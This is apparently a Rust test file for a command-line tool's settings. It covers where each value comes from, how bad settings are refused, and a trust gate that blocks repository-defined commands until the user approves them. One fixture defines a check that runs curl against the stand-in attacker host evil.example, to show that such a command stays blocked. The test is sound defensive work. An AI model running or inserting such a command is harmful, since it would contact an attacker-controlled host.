//! Settings: where values come from, what is refused, and what a repository may not do before it is trusted.

use ecoops_tests::home::{Home, write};

#[test]
fn each_value_tells_where_it_comes_from() {
    let home = Home::new();
    let repo = home.repo(&[("ecoops.toml", "[scan]\nexclude = [\"vendor/**\"]\npersona = \"pedantic\"\n")]);
    let user = "[fix]\nunsafe = true\n[scan]\nexclude = [\"mine\"]\n";
    write(&home.path().join("home/ecoops/config/config.toml"), user);
    write(&home.path().join("home/ecoops/system.toml"), "[audit]\norigin = \"team.example/audit\"\n");
    let arguments = ["--config", "scan.persona=default", "config", "show", "--origin"];
    let variables = [("ECOOPS_VALIDATE_DEADLINE", "30"), ("ECO_EMBEDDING_MODEL", "other")];
    let ran = home.ecoops_with(&repo, &arguments, "", &variables);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    let line = |name: &str| {
        let found = ran.stdout.lines().find(|l| l.starts_with(&format!("{name} ="))).unwrap_or_default();
        let found = found.replace(&home.path().display().to_string(), "~");
        found.split_whitespace().collect::<Vec<_>>().join(" ")
    };
    for (name, expected) in [
        ("scan.persona", "scan.persona = \"default\" # --config scan.persona=default"),
        ("scan.exclude", "scan.exclude = [\"vendor/**\"] # ecoops.toml:2"),
        ("fix.unsafe", "fix.unsafe = true # ~/home/ecoops/config/config.toml:2"),
        ("audit.origin", "audit.origin = \"team.example/audit\" # ~/home/ecoops/system.toml:2"),
        ("validate.deadline", "validate.deadline = 30 # ECOOPS_VALIDATE_DEADLINE"),
        ("memory.model", "memory.model = \"other\" # ECO_EMBEDDING_MODEL"),
        ("fix.commit", "fix.commit = false # default"),
    ] {
        assert_eq!(line(name), expected);
    }
    let ran = home.ecoops(&repo, &["config", "show", "scan.exclude", "--output", "json"]);
    let shown: serde_json::Value = serde_json::from_str(&ran.stdout).unwrap();
    let expected = serde_json::json!({ "from": "repository", "file": "ecoops.toml", "line": 2 });
    assert_eq!(shown["settings"][0]["origin"], expected);
    assert_eq!(home.ecoops(&repo, &["config", "show", "scan.nothing"]).code, 2);
}

#[test]
fn the_defaults_are_a_file_that_can_be_used() {
    let home = Home::new();
    let defaults = home.ecoops(home.path(), &["config", "defaults"]).stdout;
    let repo = home.repo(&[("ecoops.toml", &defaults)]);
    let ran = home.ecoops(&repo, &["config", "show"]);
    assert_eq!((ran.code, ran.stderr.as_str()), (0, ""));
}

#[test]
fn bad_settings_are_refused_with_their_place() {
    let home = Home::new();
    let repo = home.repo(&[]);
    let file = repo.join("ecoops.toml");
    let meant = "ecoops.toml:3: there is no setting `scan.perona`; did you mean `scan.persona`?";
    for (text, said) in [
        (&b"[scan]\n\nperona = 1\n"[..], meant),
        (b"[scan\n", "ecoops.toml:1:"),
        (b"[scan]\npersona = \"\x1b[31m\"\n", "ecoops.toml:2:"),
        (b"\xff\xfe", "not UTF-8"),
        (b"scan = 3", "is a section"),
    ] {
        std::fs::write(&file, text).unwrap();
        let ran = home.ecoops(&repo, &["config", "show"]);
        assert_eq!((ran.code, ran.stdout.as_str()), (2, ""));
        assert!(ran.stderr.contains(said), "{}", ran.stderr);
        assert!(!ran.stderr.contains('\u{1b}'), "control characters reach the terminal");
    }
    std::fs::write(&file, vec![b'#'; 2 << 20]).unwrap();
    assert!(home.ecoops(&repo, &["config", "show"]).stderr.contains("larger than 1 MiB"));
    std::fs::remove_file(&file).unwrap();
    std::fs::create_dir(&file).unwrap();
    assert!(home.ecoops(&repo, &["config", "show"]).stderr.contains("is not a file"));
}

#[test]
fn what_helps_to_mend_bad_settings_works_with_them() {
    let home = Home::new();
    let repo = home.repo(&[]);
    write(&repo.join("ecoops.toml"), "[scan]\nperson = 1\n");
    for (arguments, code, said) in [
        (&["config", "show"][..], 2, ""),
        (&["config", "defaults"], 0, "[scan]"),
        (&["completions", "bash"], 0, "_ecoops"),
        (&["man"], 0, ".TH"),
        (&["doctor"], 2, "BROKEN   settings     ecoops.toml"),
    ] {
        let ran = home.ecoops(&repo, arguments);
        assert_eq!(ran.code, code, "{arguments:?}: {}", ran.stderr);
        assert!(ran.stdout.contains(said), "{arguments:?}: {}", ran.stdout);
    }
}

#[test]
fn a_repository_is_trusted_once_and_again_when_it_changes() {
    let home = Home::new();
    let harmful =
        "[[validate.checks]]\nname = \"x\"\nlayer = \"test\"\ncommand = [\"curl\", \"evil.example\"]\n";
    let repo = home.repo(&[("ecoops.toml", harmful)]);
    let checks = || home.ecoops(&repo, &["--quiet", "config", "show", "validate.checks"]).stdout;

    assert_eq!(checks(), "validate.checks = []\n");
    let noted = home.ecoops(&repo, &["config", "show"]).stderr;
    assert!(noted.contains("ecoops.toml:1: `validate.checks` needs trust"), "{noted}");
    let shown = home.ecoops(&repo, &["trust", "--show"]);
    assert_eq!(shown.code, 0);
    assert!(
        shown.stdout.starts_with("not trusted") && shown.stdout.contains("evil.example"),
        "{}",
        shown.stdout
    );

    assert_eq!(home.ecoops(&repo, &["trust"]).code, 0);
    assert!(checks().contains("evil.example"));

    write(&repo.join("ecoops.toml"), &format!("{harmful}[fix]\nunsafe = true\n"));
    assert_eq!(checks(), "validate.checks = []\n", "another text is not trusted");

    assert_eq!(home.ecoops(&repo, &["trust"]).code, 0);
    assert!(checks().contains("evil.example"));
    assert_eq!(home.ecoops(&repo, &["trust", "--revoke"]).code, 0);
    assert_eq!(checks(), "validate.checks = []\n");
}

#[test]
fn trust_does_not_move_with_the_file_and_fails_closed() {
    let home = Home::new();
    let repo = home.repo(&[("ecoops.toml", "[fix]\nunsafe = true\n")]);
    assert_eq!(home.ecoops(&repo, &["trust"]).code, 0);
    let other = home.path().join("other");
    std::fs::create_dir(&other).unwrap();
    std::fs::copy(repo.join("ecoops.toml"), other.join("ecoops.toml")).unwrap();
    let unsafe_fixes = |folder| home.ecoops(folder, &["--quiet", "config", "show", "fix.unsafe"]);
    assert_eq!(unsafe_fixes(&repo).stdout, "fix.unsafe = true\n");
    assert_eq!(unsafe_fixes(&other).stdout, "fix.unsafe = false\n");

    write(&home.path().join("home/ecoops/config/trust.toml"), "[[repository]]\nlocation = 3\n");
    let ran = unsafe_fixes(&repo);
    assert_eq!((ran.code, ran.stdout.as_str()), (2, ""));
    assert!(ran.stderr.contains("cannot be understood"), "{}", ran.stderr);
}

#[test]
fn nothing_to_trust_is_3() {
    let home = Home::new();
    let repo = home.repo(&[]);
    assert_eq!(home.ecoops(&repo, &["trust"]).code, 3);
}
